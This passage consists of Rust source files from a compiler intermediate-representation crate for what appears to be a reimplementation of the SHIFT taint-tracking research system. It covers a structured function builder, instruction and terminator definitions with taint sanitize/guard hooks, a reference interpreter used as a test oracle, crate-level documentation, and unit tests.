    }

    /// An infinite loop; exit with [`FnBuilder::break_`].
    pub fn loop_(&mut self, body: impl FnOnce(&mut Self)) {
        let header = self.new_block();
        let exit = self.new_block();
        self.seal_jmp(header);
        self.loops.push((header, exit));
        self.switch_to(header);
        body(self);
        self.seal_jmp(header);
        self.loops.pop();
        self.switch_to(exit);
    }

    /// Counted loop: `for (i = start; i < end; i += 1) body(i)`.
    ///
    /// `continue` inside the body jumps to the *increment*, like C.
    pub fn for_up(&mut self, start: Rhs, end: Rhs, body: impl FnOnce(&mut Self, VReg)) {
        let i = self.fresh();
        match start {
            Rhs::Imm(v) => self.assign_imm(i, v),
            Rhs::Reg(r) => self.assign(i, r),
        }
        let header = self.new_block();
        let body_b = self.new_block();
        let step_b = self.new_block();
        let exit = self.new_block();
        self.seal_jmp(header);
        self.switch_to(header);
        self.terminate(Terminator::Br {
            rel: CmpRel::Lt,
            a: i,
            rhs: end,
            then_bb: body_b,
            else_bb: exit,
        });
        self.loops.push((step_b, exit));
        self.switch_to(body_b);
        body(self, i);
        self.seal_jmp(step_b);
        self.loops.pop();
        self.switch_to(step_b);
        let n = self.bini(AluOp::Add, i, 1);
        self.assign(i, n);
        self.seal_jmp(header);
        self.switch_to(exit);
    }

    /// Jumps to the innermost loop's exit.
    ///
    /// # Panics
    ///
    /// Panics outside of a loop.
    pub fn break_(&mut self) {
        let (_, exit) = *self.loops.last().expect("break outside of a loop");
        self.terminate(Terminator::Jmp(exit));
    }

    /// Jumps to the innermost loop's continue point (header or step block).
    ///
    /// # Panics
    ///
    /// Panics outside of a loop.
    pub fn continue_(&mut self) {
        let (cont, _) = *self.loops.last().expect("continue outside of a loop");
        self.terminate(Terminator::Jmp(cont));
    }

    // ----- op shorthands --------------------------------------------------

    /// `a + b`.
    pub fn add(&mut self, a: VReg, b: VReg) -> VReg {
        self.bin(AluOp::Add, a, b)
    }
    /// `a + imm`.
    pub fn addi(&mut self, a: VReg, imm: i64) -> VReg {
        self.bini(AluOp::Add, a, imm)
    }
    /// `a - b`.
    pub fn sub(&mut self, a: VReg, b: VReg) -> VReg {
        self.bin(AluOp::Sub, a, b)
    }
    /// `a & b`.
    pub fn and(&mut self, a: VReg, b: VReg) -> VReg {
        self.bin(AluOp::And, a, b)
    }
    /// `a & imm`.
    pub fn andi(&mut self, a: VReg, imm: i64) -> VReg {
        self.bini(AluOp::And, a, imm)
    }
    /// `a | b`.
    pub fn or(&mut self, a: VReg, b: VReg) -> VReg {
        self.bin(AluOp::Or, a, b)
    }
    /// `a ^ b`.
    pub fn xor(&mut self, a: VReg, b: VReg) -> VReg {
        self.bin(AluOp::Xor, a, b)
    }
    /// `a << imm`.
    pub fn shli(&mut self, a: VReg, imm: i64) -> VReg {
        self.bini(AluOp::Shl, a, imm)
    }
    /// `a >> imm` (logical).
    pub fn shri(&mut self, a: VReg, imm: i64) -> VReg {
        self.bini(AluOp::Shr, a, imm)
    }
    /// `a * b`.
    pub fn mul(&mut self, a: VReg, b: VReg) -> VReg {
        self.bin(AluOp::Mul, a, b)
    }
    /// `a * imm`.
    pub fn muli(&mut self, a: VReg, imm: i64) -> VReg {
        self.bini(AluOp::Mul, a, imm)
    }

    /// 8-byte load.
    pub fn load8(&mut self, addr: VReg, offset: i64) -> VReg {
        self.load(MemSize::B8, ExtKind::Zero, addr, offset)
    }
    /// 4-byte zero-extending load.
    pub fn load4(&mut self, addr: VReg, offset: i64) -> VReg {
        self.load(MemSize::B4, ExtKind::Zero, addr, offset)
    }
    /// 1-byte zero-extending load.
    pub fn load1(&mut self, addr: VReg, offset: i64) -> VReg {
        self.load(MemSize::B1, ExtKind::Zero, addr, offset)
    }
    /// 8-byte store.
    pub fn store8(&mut self, src: VReg, addr: VReg, offset: i64) {
        self.store(MemSize::B8, src, addr, offset)
    }
    /// 4-byte store.
    pub fn store4(&mut self, src: VReg, addr: VReg, offset: i64) {
        self.store(MemSize::B4, src, addr, offset)
    }
    /// 1-byte store.
    pub fn store1(&mut self, src: VReg, addr: VReg, offset: i64) {
        self.store(MemSize::B1, src, addr, offset)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::interp;

    #[test]
    fn straight_line_arithmetic() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let a = f.iconst(6);
            let b = f.iconst(7);
            let c = f.mul(a, b);
            f.ret(Some(c));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(42));
    }

    #[test]
    fn if_else_both_arms() {
        let mut pb = ProgramBuilder::new();
        pb.func("sign", 1, |f| {
            let x = f.param(0);
            let out = f.iconst(0);
            f.if_else_cmp(
                CmpRel::Lt,
                x,
                Rhs::Imm(0),
                |f| f.assign_imm(out, -1),
                |f| f.assign_imm(out, 1),
            );
            f.ret(Some(out));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "sign", &[-5]).unwrap(), Some(-1));
        assert_eq!(interp::run_func(&p, "sign", &[5]).unwrap(), Some(1));
    }

    #[test]
    fn while_with_break_and_continue() {
        // Sum odd numbers below 10, stopping at 7: 1+3+5+7 = 16.
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let sum = f.iconst(0);
            let i = f.iconst(0);
            f.while_cmp(
                |f| (CmpRel::Lt, f.use_of(i), Rhs::Imm(10)),
                |f| {
                    let n = f.addi(i, 1);
                    f.assign(i, n);
                    let even = f.andi(i, 1);
                    f.if_cmp(CmpRel::Eq, even, Rhs::Imm(0), |f| f.continue_());
                    let s = f.add(sum, i);
                    f.assign(sum, s);
                    f.if_cmp(CmpRel::Eq, i, Rhs::Imm(7), |f| f.break_());
                },
            );
            f.ret(Some(sum));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(16));
    }

    #[test]
    fn for_up_counts() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let acc = f.iconst(0);
            f.for_up(Rhs::Imm(0), Rhs::Imm(5), |f, i| {
                let s = f.add(acc, i);
                f.assign(acc, s);
            });
            f.ret(Some(acc));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(10));
    }

    #[test]
    fn locals_round_trip_through_memory() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let slot = f.local(16);
            let p = f.local_addr(slot);
            let v = f.iconst(0x1122);
            f.store8(v, p, 8);
            let got = f.load8(p, 8);
            f.ret(Some(got));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(0x1122));
    }

    #[test]
    fn globals_and_calls() {
        let mut pb = ProgramBuilder::new();
        let g = pb.global("table", 16, vec![9, 0, 0, 0, 0, 0, 0, 0, 5]);
        pb.func("get", 1, move |f| {
            let idx = f.param(0);
            let base = f.global_addr(g);
            let off = f.shli(idx, 3);
            let addr = f.add(base, off);
            let v = f.load8(addr, 0);
            f.ret(Some(v));
        });
        pb.func("main", 0, |f| {
            let one = f.iconst(1);
            let v = f.call("get", &[one]);
            f.ret(Some(v));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(5));
    }

    #[test]
    fn implicit_ret_void() {
        let mut pb = ProgramBuilder::new();
        pb.func("noop", 0, |_f| {});
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "noop", &[]).unwrap(), None);
    }

    #[test]
    fn code_after_ret_is_tolerated() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let v = f.iconst(1);
            f.ret(Some(v));
            // Unreachable but must not panic or invalidate the program.
            let w = f.iconst(2);
            f.ret(Some(w));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(1));
    }

    #[test]
    fn deeply_nested_control_flow() {
        // loop { if { loop { if { break inner } } break outer } } — checks
        // that break/continue always target the *innermost* loop.
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let outer = f.iconst(0);
            let total = f.iconst(0);
            f.loop_(|f| {
                let o1 = f.addi(outer, 1);
                f.assign(outer, o1);
                f.if_cmp(CmpRel::Le, outer, Rhs::Imm(3), |f| {
                    let inner = f.iconst(0);
                    f.loop_(|f| {
                        let i1 = f.addi(inner, 1);
                        f.assign(inner, i1);
                        f.if_cmp(CmpRel::Ge, inner, Rhs::Imm(5), |f| f.break_());
                    });
                    let t = f.add(total, inner);
                    f.assign(total, t);
                });
                f.if_cmp(CmpRel::Ge, outer, Rhs::Imm(4), |f| f.break_());
            });
            f.ret(Some(total));
        });
        let p = pb.build().unwrap();
        // Outer runs 4 times; the inner loop (to 5) runs on the first 3.
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(15));
    }

    #[test]
    fn sub_word_store_truncates() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let slot = f.local(8);
            let p = f.local_addr(slot);
            let big = f.iconst(0x1ff);
            f.store1(big, p, 0);
            let got = f.load1(p, 0);
            f.ret(Some(got));
        });
        let p = pb.build().unwrap();
        assert_eq!(interp::run_func(&p, "main", &[]).unwrap(), Some(0xff));
    }
}
