//! IR instructions and terminators.

use shift_isa::{AluOp, CmpRel, ExtKind, MemSize};

use crate::program::{BlockId, GlobalId, LocalId, VReg};

/// Right-hand side of a compare: a register or a small immediate.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Rhs {
    /// A virtual register.
    Reg(VReg),
    /// An immediate value.
    Imm(i64),
}

/// A non-terminator IR instruction.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Inst {
    /// `dst = value`.
    Const {
        /// Destination.
        dst: VReg,
        /// The constant.
        value: i64,
    },
    /// `dst = src` (used to update loop-carried virtual registers).
    Mov {
        /// Destination.
        dst: VReg,
        /// Source.
        src: VReg,
    },
    /// `dst = a op b`.
    Bin {
        /// ALU operation.
        op: AluOp,
        /// Destination.
        dst: VReg,
        /// Left operand.
        a: VReg,
        /// Right operand.
        b: VReg,
    },
    /// `dst = a op imm`.
    BinI {
        /// ALU operation.
        op: AluOp,
        /// Destination.
        dst: VReg,
        /// Left operand.
        a: VReg,
        /// Immediate right operand.
        imm: i64,
    },
    /// `dst = (a rel rhs) ? 1 : 0` — materializes a boolean.
    SetCmp {
        /// Relation.
        rel: CmpRel,
        /// Destination.
        dst: VReg,
        /// Left operand.
        a: VReg,
        /// Right operand.
        rhs: Rhs,
    },
    /// `dst = ext(*(addr + offset))` — the instruction class SHIFT
    /// instruments on the load side.
    Load {
        /// Access width.
        size: MemSize,
        /// Sub-word extension.
        ext: ExtKind,
        /// Destination.
        dst: VReg,
        /// Base address register.
        addr: VReg,
        /// Constant byte offset (folded into an add during lowering; IA-64
        /// has no base+displacement addressing).
        offset: i64,
    },
    /// `*(addr + offset) = src` — the instruction class SHIFT instruments on
    /// the store side.
    Store {
        /// Access width.
        size: MemSize,
        /// Value stored.
        src: VReg,
        /// Base address register.
        addr: VReg,
        /// Constant byte offset.
        offset: i64,
    },
    /// `dst = src` with the taint tag *cleared*: the paper's hook for
    /// "application-specific rules" that mark a value as bounds-checked so it
    /// may legitimately be used as an address (§3.3.2's discussion of bounds
    /// checking and translation tables). Lowers to `tclr` under the
    /// enhancement modes and to a spill/plain-reload launder on baseline
    /// hardware.
    Sanitize {
        /// Destination.
        dst: VReg,
        /// Source (value preserved, taint dropped).
        src: VReg,
    },
    /// Check the taint tag of `src` before a critical use: compiles to a
    /// `chk.s` that branches to a recovery stub raising a user-level alert
    /// when the tag is set (§3.3.3: "SHIFT can insert instructions checking
    /// for exception token (chk.s) before the use of critical data").
    Guard {
        /// Register whose tag is checked.
        src: VReg,
    },
    /// `dst = &local` (frame address).
    LocalAddr {
        /// Destination.
        dst: VReg,
        /// Stack slot.
        local: LocalId,
    },
    /// `dst = &global`.
    GlobalAddr {
        /// Destination.
        dst: VReg,
        /// The global.
        global: GlobalId,
    },
    /// Direct call by symbol name; up to 8 arguments.
    Call {
        /// Destination for the return value, if used.
        dst: Option<VReg>,
        /// Callee symbol (resolved at link time).
        callee: String,
        /// Argument registers.
        args: Vec<VReg>,
    },
    /// Runtime call (see [`shift_isa::sys`]); up to 8 arguments.
    Syscall {
        /// Destination for the result, if used.
        dst: Option<VReg>,
        /// Call number.
        num: u32,
        /// Argument registers.
        args: Vec<VReg>,
    },
}

impl Inst {
    /// The virtual register defined by this instruction, if any.
    pub fn def(&self) -> Option<VReg> {
        match self {
            Inst::Const { dst, .. }
            | Inst::Mov { dst, .. }
            | Inst::Bin { dst, .. }
            | Inst::BinI { dst, .. }
            | Inst::SetCmp { dst, .. }
            | Inst::Sanitize { dst, .. }
            | Inst::Load { dst, .. }
            | Inst::LocalAddr { dst, .. }
            | Inst::GlobalAddr { dst, .. } => Some(*dst),
            Inst::Call { dst, .. } | Inst::Syscall { dst, .. } => *dst,
            Inst::Store { .. } | Inst::Guard { .. } => None,
        }
    }

    /// Virtual registers read by this instruction.
    pub fn uses(&self) -> Vec<VReg> {
        match self {
            Inst::Const { .. } | Inst::LocalAddr { .. } | Inst::GlobalAddr { .. } => vec![],
            Inst::Mov { src, .. } | Inst::Sanitize { src, .. } => vec![*src],
            Inst::Bin { a, b, .. } => vec![*a, *b],
            Inst::BinI { a, .. } => vec![*a],
            Inst::SetCmp { a, rhs, .. } => match rhs {
                Rhs::Reg(b) => vec![*a, *b],
                Rhs::Imm(_) => vec![*a],
            },
            Inst::Load { addr, .. } => vec![*addr],
            Inst::Guard { src } => vec![*src],
            Inst::Store { src, addr, .. } => vec![*src, *addr],
            Inst::Call { args, .. } | Inst::Syscall { args, .. } => args.clone(),
        }
    }
}

/// A block terminator.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Terminator {
    /// Unconditional jump.
    Jmp(BlockId),
    /// Fused compare-and-branch: `if a rel rhs goto then_bb else else_bb`.
    /// Lowers to an IA-64 `cmp` + predicated branch — the NaT-sensitive
    /// pattern SHIFT must relax (§4.1).
    Br {
        /// Relation.
        rel: CmpRel,
        /// Left operand.
        a: VReg,
        /// Right operand.
        rhs: Rhs,
        /// Target when the relation holds.
        then_bb: BlockId,
        /// Target otherwise.
        else_bb: BlockId,
    },
    /// Function return.
    Ret(Option<VReg>),
}

impl Terminator {
    /// Virtual registers read by this terminator.
    pub fn uses(&self) -> Vec<VReg> {
        match self {
            Terminator::Jmp(_) => vec![],
            Terminator::Br { a, rhs, .. } => match rhs {
                Rhs::Reg(b) => vec![*a, *b],
                Rhs::Imm(_) => vec![*a],
            },
            Terminator::Ret(Some(v)) => vec![*v],
            Terminator::Ret(None) => vec![],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn def_use_cover_all_shapes() {
        let st = Inst::Store { size: MemSize::B1, src: VReg(1), addr: VReg(2), offset: 4 };
        assert_eq!(st.def(), None);
        assert_eq!(st.uses(), vec![VReg(1), VReg(2)]);

        let call = Inst::Call { dst: Some(VReg(5)), callee: "f".into(), args: vec![VReg(3)] };
        assert_eq!(call.def(), Some(VReg(5)));
        assert_eq!(call.uses(), vec![VReg(3)]);

        let cmp = Inst::SetCmp { rel: CmpRel::Lt, dst: VReg(0), a: VReg(1), rhs: Rhs::Imm(3) };
        assert_eq!(cmp.uses(), vec![VReg(1)]);
    }

    #[test]
    fn terminator_uses() {
        let br = Terminator::Br {
            rel: CmpRel::Eq,
            a: VReg(1),
            rhs: Rhs::Reg(VReg(2)),
            then_bb: BlockId(1),
            else_bb: BlockId(2),
        };
        assert_eq!(br.uses(), vec![VReg(1), VReg(2)]);
        assert_eq!(Terminator::Ret(Some(VReg(7))).uses(), vec![VReg(7)]);
        assert!(Terminator::Jmp(BlockId(0)).uses().is_empty());
    }
}
