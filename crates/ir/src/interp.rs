//! A reference interpreter for the IR.
//!
//! Executes IR directly (no lowering, no register allocation, no taint),
//! serving as a *differential oracle*: the compiler test-suite runs the same
//! program here and on the simulated machine and demands identical results.
//! Runtime calls are out of scope — programs under differential test are
//! pure computations over locals/globals.

use std::collections::HashMap;

use shift_isa::{AluOp, ExtKind, MemSize};

use crate::inst::{Inst, Rhs, Terminator};
use crate::program::{Function, Program};

/// Base address at which globals are laid out.
const GLOBAL_BASE: u64 = 0x1000_0000;
/// Initial stack pointer (frames grow down).
const STACK_BASE: u64 = 0x8000_0000;
/// Default execution budget.
const DEFAULT_STEP_LIMIT: u64 = 50_000_000;

/// Interpreter failure.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum InterpError {
    /// Call to a function that is not in the program.
    UnknownFunction(String),
    /// The IR used a runtime call, which the oracle does not model.
    SyscallUnsupported(u32),
    /// The step budget was exhausted (probable infinite loop).
    StepLimit,
    /// Argument count didn't match the function's parameter count.
    BadArity {
        /// The function called.
        func: String,
    },
}

impl std::fmt::Display for InterpError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            InterpError::UnknownFunction(n) => write!(f, "unknown function `{n}`"),
            InterpError::SyscallUnsupported(n) => {
                write!(f, "syscall {n} is not supported by the reference interpreter")
            }
            InterpError::StepLimit => f.write_str("step limit exhausted"),
            InterpError::BadArity { func } => write!(f, "bad arity calling `{func}`"),
        }
    }
}

impl std::error::Error for InterpError {}

/// The interpreter state (memory persists across calls so tests can inspect
/// globals afterwards).
#[derive(Debug)]
pub struct Interp<'p> {
    program: &'p Program,
    mem: HashMap<u64, u8>,
    global_addrs: Vec<u64>,
    sp: u64,
    steps_left: u64,
}

impl<'p> Interp<'p> {
    /// Creates an interpreter and lays out the program's globals.
    pub fn new(program: &'p Program) -> Interp<'p> {
        let mut mem = HashMap::new();
        let mut global_addrs = Vec::with_capacity(program.globals.len());
        let mut cursor = GLOBAL_BASE;
        for g in &program.globals {
            global_addrs.push(cursor);
            for (i, &b) in g.init.iter().enumerate() {
                mem.insert(cursor + i as u64, b);
            }
            cursor += g.size.div_ceil(16) * 16;
        }
        Interp { program, mem, global_addrs, sp: STACK_BASE, steps_left: DEFAULT_STEP_LIMIT }
    }

    /// Overrides the execution budget.
    pub fn with_step_limit(mut self, limit: u64) -> Interp<'p> {
        self.steps_left = limit;
        self
    }

    /// Address assigned to a global (for post-run inspection).
    pub fn global_addr(&self, index: usize) -> u64 {
        self.global_addrs[index]
    }

    /// Reads `len` bytes of interpreter memory (unset bytes read as zero).
    pub fn read_mem(&self, addr: u64, len: usize) -> Vec<u8> {
        (0..len as u64).map(|i| *self.mem.get(&(addr + i)).unwrap_or(&0)).collect()
    }

    /// Calls a function by name.
    ///
    /// # Errors
    ///
    /// Returns an [`InterpError`] for unknown functions, arity mismatches,
    /// runtime calls, or step-budget exhaustion.
    pub fn call(&mut self, name: &str, args: &[i64]) -> Result<Option<i64>, InterpError> {
        let func = self
            .program
            .func(name)
            .ok_or_else(|| InterpError::UnknownFunction(name.to_string()))?;
        if args.len() != func.params {
            return Err(InterpError::BadArity { func: name.to_string() });
        }
        self.exec(func, args)
    }

    fn exec(&mut self, func: &'p Function, args: &[i64]) -> Result<Option<i64>, InterpError> {
        let mut regs = vec![0i64; func.vregs as usize];
        regs[..args.len()].copy_from_slice(args);

        // Frame: allocate 8-aligned slots below sp, restore on exit.
        let saved_sp = self.sp;
        let mut local_addrs = Vec::with_capacity(func.locals.len());
        for local in &func.locals {
            self.sp -= local.size.div_ceil(8) * 8;
            local_addrs.push(self.sp);
        }

        let mut block = 0usize;
        let result = 'run: loop {
            let b = &func.blocks[block];
            for inst in &b.insts {
                if self.steps_left == 0 {
                    break 'run Err(InterpError::StepLimit);
                }
                self.steps_left -= 1;
                match inst {
                    Inst::Const { dst, value } => regs[dst.index()] = *value,
                    Inst::Mov { dst, src } | Inst::Sanitize { dst, src } => {
                        regs[dst.index()] = regs[src.index()]
                    }
                    Inst::Bin { op, dst, a, b } => {
                        regs[dst.index()] = eval_alu(*op, regs[a.index()], regs[b.index()]);
                    }
                    Inst::BinI { op, dst, a, imm } => {
                        regs[dst.index()] = eval_alu(*op, regs[a.index()], *imm);
                    }
                    Inst::SetCmp { rel, dst, a, rhs } => {
                        let rv = self.rhs(&regs, rhs);
                        regs[dst.index()] = i64::from(rel.eval(regs[a.index()] as u64, rv as u64));
                    }
                    Inst::Load { size, ext, dst, addr, offset } => {
                        let a = (regs[addr.index()].wrapping_add(*offset)) as u64;
                        regs[dst.index()] = self.load(a, *size, *ext);
                    }
                    Inst::Store { size, src, addr, offset } => {
                        let a = (regs[addr.index()].wrapping_add(*offset)) as u64;
                        self.store(a, *size, regs[src.index()]);
                    }
                    Inst::LocalAddr { dst, local } => {
                        regs[dst.index()] = local_addrs[local.index()] as i64;
                    }
                    Inst::GlobalAddr { dst, global } => {
                        regs[dst.index()] = self.global_addrs[global.index()] as i64;
                    }
                    Inst::Call { dst, callee, args } => {
                        let vals: Vec<i64> = args.iter().map(|v| regs[v.index()]).collect();
                        let r = match self.call(callee, &vals) {
                            Ok(r) => r,
                            Err(e) => break 'run Err(e),
                        };
                        if let Some(d) = dst {
                            regs[d.index()] = r.unwrap_or(0);
                        }
                    }
                    Inst::Guard { .. } => {}
                    Inst::Syscall { num, .. } => {
                        break 'run Err(InterpError::SyscallUnsupported(*num));
                    }
                }
            }
            if self.steps_left == 0 {
                break 'run Err(InterpError::StepLimit);
            }
            self.steps_left -= 1;
            match b.term.as_ref().expect("validated IR has terminators") {
                Terminator::Jmp(t) => block = t.index(),
                Terminator::Br { rel, a, rhs, then_bb, else_bb } => {
                    let rv = self.rhs(&regs, rhs);
                    block = if rel.eval(regs[a.index()] as u64, rv as u64) {
                        then_bb.index()
                    } else {
                        else_bb.index()
                    };
                }
                Terminator::Ret(v) => break 'run Ok(v.map(|v| regs[v.index()])),
            }
        };

        self.sp = saved_sp;
        result
    }

    fn rhs(&self, regs: &[i64], rhs: &Rhs) -> i64 {
        match rhs {
            Rhs::Reg(r) => regs[r.index()],
            Rhs::Imm(v) => *v,
        }
    }

    fn load(&self, addr: u64, size: MemSize, ext: ExtKind) -> i64 {
        let mut v = 0u64;
        for i in (0..size.bytes()).rev() {
            v = (v << 8) | u64::from(*self.mem.get(&(addr + i)).unwrap_or(&0));
        }
        let bits = size.bytes() * 8;
        let v = if bits == 64 {
            v
        } else {
            match ext {
                ExtKind::Zero => v,
                ExtKind::Sign => {
                    let sign = 1u64 << (bits - 1);
                    if v & sign != 0 {
                        v | !((1u64 << bits) - 1)
                    } else {
                        v
                    }
                }
            }
        };
        v as i64
    }

    fn store(&mut self, addr: u64, size: MemSize, value: i64) {
        for i in 0..size.bytes() {
            self.mem.insert(addr + i, (value as u64 >> (8 * i)) as u8);
        }
    }
}

/// One-shot convenience: interpret `name(args)` in a fresh interpreter.
///
/// # Errors
///
/// See [`Interp::call`].
pub fn run_func(program: &Program, name: &str, args: &[i64]) -> Result<Option<i64>, InterpError> {
    Interp::new(program).call(name, args)
}

fn eval_alu(op: AluOp, a: i64, b: i64) -> i64 {
    let (ua, ub) = (a as u64, b as u64);
    (match op {
        AluOp::Add => ua.wrapping_add(ub),
        AluOp::Sub => ua.wrapping_sub(ub),
        AluOp::And => ua & ub,
        AluOp::Or => ua | ub,
        AluOp::Xor => ua ^ ub,
        AluOp::Shl => ua.wrapping_shl(ub as u32),
        AluOp::Shr => ua.wrapping_shr(ub as u32),
        AluOp::Sar => (a.wrapping_shr(ub as u32)) as u64,
        AluOp::Mul => ua.wrapping_mul(ub),
    }) as i64
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ProgramBuilder;
    use shift_isa::CmpRel;

    #[test]
    fn recursion_works() {
        let mut pb = ProgramBuilder::new();
        pb.func("fact", 1, |f| {
            let n = f.param(0);
            f.if_cmp(CmpRel::Le, n, Rhs::Imm(1), |f| {
                let one = f.iconst(1);
                f.ret(Some(one));
            });
            let nm1 = f.addi(n, -1);
            let sub = f.call("fact", &[nm1]);
            let r = f.mul(n, sub);
            f.ret(Some(r));
        });
        let p = pb.build().unwrap();
        assert_eq!(run_func(&p, "fact", &[6]).unwrap(), Some(720));
    }

    #[test]
    fn step_limit_catches_infinite_loops() {
        let mut pb = ProgramBuilder::new();
        pb.func("spin", 0, |f| {
            f.loop_(|_f| {});
            f.ret(None);
        });
        let p = pb.build().unwrap();
        let mut i = Interp::new(&p).with_step_limit(1000);
        assert_eq!(i.call("spin", &[]), Err(InterpError::StepLimit));
    }

    #[test]
    fn syscalls_are_rejected() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            f.syscall_void(shift_isa::sys::PRINT, &[]);
            f.ret(None);
        });
        let p = pb.build().unwrap();
        assert_eq!(
            run_func(&p, "main", &[]),
            Err(InterpError::SyscallUnsupported(shift_isa::sys::PRINT))
        );
    }

    #[test]
    fn globals_persist_across_calls() {
        let mut pb = ProgramBuilder::new();
        let g = pb.global_zeroed("counter", 8);
        pb.func("bump", 0, move |f| {
            let a = f.global_addr(g);
            let v = f.load8(a, 0);
            let v1 = f.addi(v, 1);
            f.store8(v1, a, 0);
            f.ret(Some(v1));
        });
        let p = pb.build().unwrap();
        let mut i = Interp::new(&p);
        assert_eq!(i.call("bump", &[]).unwrap(), Some(1));
        assert_eq!(i.call("bump", &[]).unwrap(), Some(2));
        let addr = i.global_addr(0);
        assert_eq!(i.read_mem(addr, 1)[0], 2);
    }

    #[test]
    fn sign_extension_on_loads() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let slot = f.local(8);
            let p = f.local_addr(slot);
            let v = f.iconst(0xfe);
            f.store1(v, p, 0);
            let got = f.load(MemSize::B1, ExtKind::Sign, p, 0);
            f.ret(Some(got));
        });
        let p = pb.build().unwrap();
        assert_eq!(run_func(&p, "main", &[]).unwrap(), Some(-2));
    }

    #[test]
    fn nested_calls_restore_stack() {
        let mut pb = ProgramBuilder::new();
        pb.func("writes_local", 0, |f| {
            let slot = f.local(8);
            let p = f.local_addr(slot);
            let v = f.iconst(0xaa);
            f.store8(v, p, 0);
            let got = f.load8(p, 0);
            f.ret(Some(got));
        });
        pb.func("main", 0, |f| {
            let slot = f.local(8);
            let p = f.local_addr(slot);
            let v = f.iconst(7);
            f.store8(v, p, 0);
            f.call_void("writes_local", &[]);
            // Our local must be untouched even though the callee used the
            // stack below us.
            let got = f.load8(p, 0);
            f.ret(Some(got));
        });
        let p = pb.build().unwrap();
        assert_eq!(run_func(&p, "main", &[]).unwrap(), Some(7));
    }
}
