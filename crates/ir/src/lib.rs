//! # shift-ir — the compiler's intermediate representation
//!
//! A small three-address IR over unlimited virtual registers, organized as a
//! control-flow graph of basic blocks. The SHIFT paper instruments at GCC's
//! low-level RTL, "between `pass_leaf_regs` and `pass_sched2`" (§4.2); our
//! pipeline mirrors that: guest programs are written against this IR (there
//! is no C frontend in scope), `shift-compiler` lowers it, allocates
//! registers, and only *then* runs the instrumentation pass on physical
//! machine code.
//!
//! The IR is deliberately C-compiler-shaped:
//!
//! * virtual registers are 64-bit integers (the only scalar type);
//! * mutable state that never has its address taken lives in virtual
//!   registers across blocks (like GCC pseudos after `-O3`), so loop
//!   counters do **not** become memory traffic — this matters because the
//!   paper's overhead is proportional to *genuine* load/store density;
//! * address-taken variables (buffers, structs) live in [`Function`] locals
//!   (stack slots) and are accessed through explicit [`Inst::Load`] /
//!   [`Inst::Store`] with a size and extension, exactly the instructions the
//!   SHIFT pass instruments;
//! * control flow uses fused compare-and-branch terminators, which lower to
//!   IA-64 `cmp`+predicated-branch pairs — the NaT-sensitive instructions
//!   that need relaxation (§4.1).
//!
//! [`FnBuilder`] provides structured helpers (`if_cmp`, `while_cmp`, loops
//! with `break`/`continue`) so the workload and attack crates can express
//! realistic programs compactly, and [`interp`] is a reference interpreter
//! used as a differential oracle for compiler correctness tests.
//!
//! ## Example
//!
//! ```
//! use shift_ir::{ProgramBuilder, Rhs};
//! use shift_isa::CmpRel;
//!
//! let mut pb = ProgramBuilder::new();
//! pb.func("main", 0, |f| {
//!     // sum = 0; for i in 0..10 { sum += i }
//!     let sum = f.iconst(0);
//!     let i = f.iconst(0);
//!     f.while_cmp(
//!         |f| (CmpRel::Lt, f.use_of(i), Rhs::Imm(10)),
//!         |f| {
//!             let s = f.add(sum, i);
//!             f.assign(sum, s);
//!             let n = f.addi(i, 1);
//!             f.assign(i, n);
//!         },
//!     );
//!     f.ret(Some(sum));
//! });
//! let program = pb.build().unwrap();
//! assert_eq!(shift_ir::interp::run_func(&program, "main", &[]).unwrap(), Some(45));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod builder;
mod inst;
pub mod interp;
mod program;
mod validate;

pub use builder::{FnBuilder, ProgramBuilder, Var};
pub use inst::{Inst, Rhs, Terminator};
pub use program::{Block, BlockId, Function, Global, GlobalId, LocalId, Program, VReg};
pub use validate::{validate, validate_linked, ValidateError};
