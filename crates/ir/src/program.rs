//! Program structure: functions, blocks, locals, globals.

use core::fmt;

use crate::inst::{Inst, Terminator};

macro_rules! id_type {
    ($(#[$meta:meta])* $name:ident, $prefix:literal) => {
        $(#[$meta])*
        #[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
        pub struct $name(pub u32);

        impl $name {
            /// The id as a usize index.
            #[inline]
            pub fn index(self) -> usize {
                self.0 as usize
            }
        }

        impl fmt::Display for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, "{}{}", $prefix, self.0)
            }
        }
    };
}

id_type! {
    /// A virtual register. Not SSA: a virtual register may be redefined,
    /// which is how loop-carried values are expressed without phi nodes.
    VReg, "v"
}
id_type! {
    /// A basic-block id within one function.
    BlockId, "bb"
}
id_type! {
    /// A stack-slot id within one function (address-taken variables).
